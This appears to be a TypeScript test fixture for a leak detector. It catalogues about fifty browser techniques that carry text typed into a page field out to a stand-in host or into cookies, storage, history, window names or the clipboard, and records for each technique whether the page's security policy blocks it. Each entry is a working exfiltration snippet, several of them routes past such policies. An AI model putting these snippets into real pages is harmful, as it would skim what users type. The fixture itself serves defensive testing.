/** A leak for the detector to find. */
export interface Planted {
  /** What it does, as the name of a test says it. */
  readonly does: string;
  /** Whether the page's own security policy stops it. */
  readonly stopped: boolean;
  /** A security policy that its server sends with the page. */
  readonly header?: string;
  /** Runs in the page when a field has been filled: gives away what was typed. */
  readonly leak: (typed: string, elsewhere: string) => unknown;
  /** All the channels that the detector must name. */
  readonly channels: readonly string[];
}

/** Where the leaks lead: a host that the proxy answers for, and that Chromium takes for trustworthy. */
export const elsewhere = "http://elsewhere.localhost/";

/** A script beside the page, for workers. */
export const workerPath = "/planted-worker.js";

/** Fetches whatever it is sent, or has in its own address. */
export const workerScript = `
  const tell = ({ data }) => fetch("${elsewhere}?" + data);
  onmessage = tell;
  onconnect = ({ ports: [port] }) => { port.onmessage = tell; };
`;

/* Each stands alone, since its source is what is planted. */
export const planted: readonly Planted[] = [
  {
    does: "fetches an address",
    stopped: true,
    leak: (typed, elsewhere) => fetch(`${elsewhere}?${typed}`, { mode: "no-cors" }),
    channels: ["Window.fetch", "request for fetch"],
  },
  {
    does: "posts to an address",
    stopped: true,
    leak: (typed, elsewhere) => fetch(elsewhere, { method: "POST", body: btoa(typed) }),
    channels: ["Window.fetch", "request for fetch"],
  },
  {
    does: "posts with keepalive",
    stopped: true,
    leak: (typed, elsewhere) =>
      fetch(elsewhere, { method: "POST", body: typed, keepalive: true, mode: "no-cors" }),
    channels: ["Window.fetch", "request for fetch"],
  },
  {
    does: "puts a fetch off",
    stopped: true,
    leak: (typed, elsewhere) => {
      const { fetchLater } = window as unknown as {
        fetchLater: (address: string, how: RequestInit & { activateAfter: number }) => unknown;
      };
      return fetchLater(elsewhere, { method: "POST", body: typed, activateAfter: 0 });
    },
    channels: ["request for fetch"],
  },
  {
    does: "spells it out, one letter a request",
    stopped: true,
    leak: (typed, elsewhere) => {
      for (const letter of typed.slice(0, 3)) void fetch(`${elsewhere}?${letter}`);
    },
    channels: ["Window.fetch", "request for fetch"],
  },
  {
    does: "asks the site itself",
    stopped: true,
    leak: (typed) => fetch(`/?${typed}`),
    channels: ["Window.fetch", "request for fetch"],
  },
  {
    does: "sends an XMLHttpRequest",
    stopped: true,
    leak: (typed, elsewhere) => {
      const request = new XMLHttpRequest();
      request.open("POST", elsewhere);
      request.send(typed);
    },
    channels: ["XMLHttpRequest.send", "request for fetch"],
  },
  {
    does: "sends a beacon",
    stopped: true,
    leak: (typed, elsewhere) => navigator.sendBeacon(elsewhere, typed),
    channels: ["Navigator.sendBeacon", "request for fetch"],
  },
  {
    does: "loads an image",
    stopped: true,
    leak: (typed, elsewhere) => {
      new Image().src = `${elsewhere}?${typed}`;
    },
    channels: ["request for image"],
  },
  {
    does: "loads an image from the site itself",
    stopped: false,
    leak: (typed) => {
      new Image().src = `/icon.svg?${typed}`;
    },
    channels: ["request for image"],
  },
  {
    does: "loads one of several images",
    stopped: true,
    leak: (typed, elsewhere) => {
      new Image().srcset = `${elsewhere}?${typed} 1x, ${elsewhere}?2${typed} 2x`;
    },
    channels: ["request for image"],
  },
  {
    does: "loads a background",
    stopped: true,
    leak: (typed, elsewhere) => {
      document.body.style.backgroundImage = `url("${elsewhere}?${typed}")`;
    },
    channels: ["request for image"],
  },
  {
    does: "imports a style",
    stopped: true,
    leak: (typed, elsewhere) => {
      const style = document.createElement("style");
      style.textContent = `@import "${elsewhere}?${typed}";`;
      document.head.append(style);
    },
    channels: ["request for style"],
  },
  {
    does: "loads a font",
    stopped: true,
    leak: (typed, elsewhere) => {
      const font = new FontFace("planted", `url("${elsewhere}?${typed}")`);
      return font.load();
    },
    channels: ["request for font"],
  },
  {
    does: "loads a script",
    stopped: true,
    leak: (typed, elsewhere) => {
      const script = document.createElement("script");
      script.src = `${elsewhere}?${typed}`;
      document.head.append(script);
    },
    channels: ["request for script"],
  },
  {
    does: "imports a module",
    stopped: true,
    leak: (typed, elsewhere) => import(`${elsewhere}?${typed}`),
    channels: ["request for script"],
  },
  {
    does: "loads a video",
    stopped: true,
    leak: (typed, elsewhere) => {
      const video = document.createElement("video");
      video.src = `${elsewhere}?${typed}`;
      video.load();
    },
    channels: ["request for video"],
  },
  {
    does: "embeds a frame",
    stopped: true,
    leak: (typed, elsewhere) => {
      const frame = document.createElement("iframe");
      frame.src = `${elsewhere}?${typed}`;
      document.body.append(frame);
    },
    channels: ["request for iframe"],
  },
  {
    does: "prefetches a page",
    stopped: true,
    leak: (typed, elsewhere) => {
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = `${elsewhere}?${typed}`;
      document.head.append(link);
    },
    channels: ["link prefetch", "request ahead"],
  },
  {
    does: "connects ahead to a host of that name",
    stopped: false,
    leak: (typed) => {
      const link = document.createElement("link");
      link.rel = "preconnect";
      link.href = `https://${typed}.localhost/`;
      document.head.append(link);
    },
    channels: ["link preconnect"],
  },
  {
    does: "looks up a host of that name",
    stopped: false,
    leak: (typed) => {
      const link = document.createElement("link");
      link.rel = "dns-prefetch";
      link.href = `//${typed}.localhost/`;
      document.head.append(link);
    },
    channels: ["link dns-prefetch"],
  },
  {
    does: "sends a form",
    stopped: true,
    leak: (typed, elsewhere) => {
      const form = document.createElement("form");
      form.action = elsewhere;
      form.method = "post";
      const field = document.createElement("input");
      field.name = "q";
      field.value = typed;
      form.append(field);
      document.body.append(form);
      form.submit();
    },
    channels: ["request for document"],
  },
  {
    does: "goes elsewhere",
    stopped: false,
    leak: (typed, elsewhere) => {
      location.href = `${elsewhere}?${typed}`;
    },
    channels: ["request for document", "address in the history"],
  },
  {
    does: "opens a window",
    stopped: false,
    leak: (typed, elsewhere) => window.open(`${elsewhere}?${typed}`),
    channels: ["Window.open", "request for document"],
  },
  {
    does: "has a link followed by a ping",
    stopped: true,
    leak: (typed, elsewhere) => {
      const link = document.createElement("a");
      link.href = "#planted";
      link.ping = `${elsewhere}?${typed}`;
      document.body.append(link);
      link.click();
    },
    channels: ["request for ping"],
  },
  {
    does: "opens a websocket",
    stopped: true,
    leak: (typed, elsewhere) => {
      const socket = new WebSocket(elsewhere.replace("http", "ws"));
      socket.onopen = () => {
        socket.send(typed);
      };
    },
    channels: ["WebSocket", "tunnel", "request for websocket", "websocket message"],
  },
  {
    does: "listens to a stream of events",
    stopped: true,
    leak: (typed, elsewhere) => new EventSource(`${elsewhere}?${typed}`),
    channels: ["EventSource", "request for events"],
  },
  {
    does: "opens a web transport",
    stopped: true,
    leak: (typed) => new WebTransport(`https://elsewhere.localhost:4433/?${typed}`),
    channels: ["WebTransport"],
  },
  {
    does: "looks for a way to a peer",
    stopped: false,
    leak: (typed) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${typed}.localhost` }] });
      peer.createDataChannel(typed);
      void peer.setLocalDescription();
    },
    channels: ["RTCPeerConnection"],
  },
  {
    does: "has breaches of a policy reported",
    stopped: false,
    header: `connect-src 'none'; report-uri ${elsewhere}`,
    leak: (typed) => fetch(`/?${typed}`),
    channels: ["Window.fetch", "request for report"],
  },
  {
    does: "has a worker fetch",
    stopped: true,
    leak: (typed) => {
      new Worker("/planted-worker.js").postMessage(typed);
    },
    channels: ["Worker", "request for worker", "request for fetch"],
  },
  {
    does: "has a shared worker fetch",
    stopped: true,
    leak: (typed) => {
      new SharedWorker("/planted-worker.js").port.postMessage(typed);
    },
    channels: ["SharedWorker", "request for sharedworker", "request for fetch"],
  },
  {
    does: "registers a service worker",
    stopped: true,
    leak: (typed) => navigator.serviceWorker.register(`/planted-worker.js?${typed}`),
    channels: ["worker", "request for serviceworker"],
  },
  {
    does: "pushes an address",
    stopped: false,
    leak: (typed) => {
      history.pushState(null, "", `?${typed}`);
    },
    channels: ["History.pushState", "address in the history"],
  },
  {
    does: "puts it behind the # of the address",
    stopped: false,
    leak: (typed) => {
      location.hash = btoa(typed);
    },
    channels: ["address in the history"],
  },
  {
    does: "keeps it as the state of the history",
    stopped: false,
    leak: (typed) => {
      history.replaceState(typed, "");
    },
    channels: ["History.replaceState", "history.state"],
  },
  {
    does: "keeps it as the state of the navigation",
    stopped: false,
    leak: (typed) => {
      navigation.updateCurrentEntry({ state: typed });
    },
    channels: ["Navigation.updateCurrentEntry"],
  },
  {
    does: "sets a cookie",
    stopped: false,
    leak: (typed) => {
      document.cookie = `planted=${typed}`;
    },
    channels: ["document.cookie", "cookie"],
  },
  {
    does: "sets a cookie in the newer way",
    stopped: false,
    leak: (typed) => cookieStore.set("planted", typed),
    channels: ["CookieStore.set", "cookie"],
  },
  {
    does: "writes into local storage",
    stopped: false,
    leak: (typed) => {
      localStorage["planted"] = typed;
    },
    channels: ["local storage"],
  },
  {
    does: "writes into local storage for a moment",
    stopped: false,
    leak: (typed) => {
      localStorage.setItem("planted", typed);
      localStorage.clear();
    },
    channels: ["Storage.setItem"],
  },
  {
    does: "writes into session storage",
    stopped: false,
    leak: (typed) => {
      sessionStorage["planted"] = typed;
    },
    channels: ["session storage"],
  },
  {
    does: "makes a database",
    stopped: false,
    leak: (typed) => indexedDB.open(typed),
    channels: ["IDBFactory.open", "database"],
  },
  {
    does: "fills a cache",
    stopped: false,
    leak: async (typed) => {
      const cache = await caches.open("planted");
      await cache.put(`/${typed}`, new Response(typed));
    },
    channels: ["CacheStorage.open", "cache"],
  },
  {
    does: "writes a private file",
    stopped: false,
    leak: async (typed) => {
      const folder = await navigator.storage.getDirectory();
      await folder.getFileHandle(typed, { create: true });
    },
    channels: ["file"],
  },
  {
    does: "names the window",
    stopped: false,
    leak: (typed) => {
      window.name = typed;
    },
    channels: ["window.name"],
  },
  {
    does: "lets the next page know where one came from",
    stopped: false,
    leak: (typed) => {
      history.replaceState(null, "", `?${typed}`);
      const link = document.createElement("a");
      link.href = "/";
      link.referrerPolicy = "unsafe-url";
      link.click();
    },
    channels: [
      "History.replaceState",
      "request for document",
      "Referer",
      "document.referrer",
      "address in the history",
    ],
  },
  {
    does: "tells the window that opened it",
    stopped: false,
    leak: (typed) => {
      (window.opener as Window | null)?.postMessage(typed, "*");
    },
    channels: ["message"],
  },
  {
    does: "tells every page of the site",
    stopped: false,
    leak: (typed) => {
      new BroadcastChannel("planted").postMessage(typed);
    },
    channels: ["BroadcastChannel.postMessage"],
  },
  {
    does: "copies what nobody asked to copy",
    stopped: false,
    leak: (typed) => navigator.clipboard.writeText(typed),
    channels: ["Clipboard.writeText"],
  },
];
